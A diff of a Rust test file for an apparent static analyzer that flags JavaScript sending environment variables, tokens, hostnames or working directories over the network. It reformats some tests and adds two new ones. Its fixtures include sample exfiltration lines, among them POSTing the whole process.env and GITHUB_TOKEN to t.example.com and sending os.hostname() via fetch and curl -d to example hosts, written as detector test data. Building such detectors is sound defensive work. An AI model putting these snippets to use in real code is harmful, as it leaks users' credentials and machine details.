@@ -30,25 +30,33 @@ fn proxy_env_sent_with_request_is_not_identity() {
 fn env_read_by_names_from_a_constant_list_is_those_variables() {
     // qwen-code's git helper copies PATH, TEMP, … into a child's environment; the same object
     // later reaches a request only through its URL.
-    let neg = run("const environment = {};
+    let neg = run(
+        "const environment = {};
         for (const key of ['PATH', 'SystemRoot', 'TEMP', 'TMPDIR']) {
           const value = process.env[key]; if (value !== undefined) environment[key] = value; }
-        fetch('https://api.example.com/x', { method: 'POST', body: JSON.stringify(environment) });");
+        fetch('https://api.example.com/x', { method: 'POST', body: JSON.stringify(environment) });",
+    );
     assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
     let names = run("const NAMES = ['USER', 'GITHUB_TOKEN'];
         const out = {}; for (const k of NAMES) out[k] = process.env[k];
         fetch('https://t.example.com/c', { method: 'POST', body: JSON.stringify(out) });");
     let kinds: Vec<_> = names.flows.iter().flat_map(|f| f.kinds.iter()).collect();
     assert!(kinds.contains(&DataKind::Username), "{:#?}", names.flows);
-    assert!(!kinds.contains(&DataKind::WholeEnvironment), "{:#?}", names.flows);
+    assert!(
+        !kinds.contains(&DataKind::WholeEnvironment),
+        "{:#?}",
+        names.flows
+    );
     // A helper reading the variable its callers name reads those names.
     let helper = run("function getEnv(name) { return process.env[name]; }
         const project = getEnv('GOOGLE_CLOUD_PROJECT');
         fetch(`https://api.example.com/projects/${project}`);");
     assert!(helper.flows.is_empty(), "{:#?}", helper.flows);
     // Any name at all is the whole environment.
-    let pos = run("const out = {}; for (const k in process.env) out[k] = process.env[k];
-        fetch('https://t.example.com/c', { method: 'POST', body: JSON.stringify(out) });");
+    let pos = run(
+        "const out = {}; for (const k in process.env) out[k] = process.env[k];
+        fetch('https://t.example.com/c', { method: 'POST', body: JSON.stringify(out) });",
+    );
     assert!(
         pos.flows
             .iter()
@@ -66,10 +74,14 @@ fn route_handler_gets_a_client_request_not_the_server() {
           res.json(await (await fetch(`${u.origin}/paths`)).json()); });");
     assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
     // An emitter's callback still receives what it works on.
-    let pos = run("const os = require('os'); const s = require('stream').Readable.from([os.hostname()]);
-        s.on('data', d => fetch('https://t.example.com/?h=' + d));");
+    let pos = run(
+        "const os = require('os'); const s = require('stream').Readable.from([os.hostname()]);
+        s.on('data', d => fetch('https://t.example.com/?h=' + d));",
+    );
     assert!(
-        pos.flows.iter().any(|fl| fl.kinds.contains(DataKind::Hostname)),
+        pos.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
         "{:#?}",
         pos.flows
     );
@@ -1441,4 +1453,59 @@ fn a_token_tested_before_its_header_is_not_sent_by_the_test() {
     // `a || b` still carries both.
     let f = run(r#"fetch("https://t.example.top/c", { body: process.env.NPM_TOKEN || "none" });"#);
     assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
+}
+
+#[test]
+fn a_network_commands_options_are_not_sent() {
+    // amp runs curl with the user's environment passed to the child: set up, not sent.
+    let neg = run("const cp = require('child_process');
+        cp.spawn('curl', ['--disable', '-s', 'https://api.example.com/v1/x'], { stdio: 'inherit', env: { ...process.env, CURL_HOME: '/tmp' } });
+        cp.exec('curl -s https://api.example.com/v1/y', { env: process.env, cwd: process.cwd() });");
+    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
+    // The command line and its arguments are what the tool sends.
+    let pos = run(
+        "const cp = require('child_process'); const os = require('os');
+        cp.spawn('curl', ['-d', os.hostname(), 'https://c.example.top/h'], { env: process.env });",
+    );
+    assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
+    assert_eq!(pos.flows[0].sink, SinkKind::NetworkCommand);
+    assert!(pos.flows[0].kinds.contains(DataKind::Hostname));
+}
+
+#[test]
+fn fields_of_an_object_a_function_returns_stay_apart() {
+    // amp's service container: one field holds an index of the working directory, another the
+    // secret store whose key authenticates requests, a third the settings with the server URL.
+    let src = "class Fuzzy { constructor(root) { this.root = root; } }
+        function makeServices(opts) {
+          const fuzzy = new Fuzzy(process.cwd());
+          const base = { fuzzyServer: fuzzy, secretStorage: opts.storage, configService: opts.config };
+          return { ...base, async dispose() { fuzzy.close(); } };
+        }
+        async function main(o, quiet) {
+          const k = quiet ? null : await makeServices(o);
+          return run(k, o);
+        }
+        async function run(k, o) {
+          const key = await k.secretStorage.get('apiKey', o.url);
+          const cfg = k.configService;
+          await fetch(cfg.url, { method: 'POST', headers: { Authorization: `Bearer ${key}` }, body: JSON.stringify({ q: 1 }) });
+          SEND";
+    let neg = run(&src.replace("SEND", "}"));
+    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
+    assert!(neg.credential_uses.is_empty(), "{:#?}", neg.credential_uses);
+    // The field that holds the data still carries it.
+    let pos = run(&src.replace(
+        "SEND",
+        "await fetch('https://t.example.top/x', { method: 'POST', body: JSON.stringify({ root: k.fuzzyServer }) }); }",
+    ));
+    assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
+    assert!(pos.flows[0].kinds.contains(DataKind::WorkingDirectory));
+    // A function that returns something else than object literals gives its whole result.
+    let whole = run(
+        "function info() { if (x) return os.hostname(); return { a: 1 }; }
+        const os = require('os'); const r = info();
+        fetch('https://t.example.top/y', { method: 'POST', body: r.a });",
+    );
+    assert_eq!(whole.flows.len(), 1, "{:#?}", whole.flows);
 }
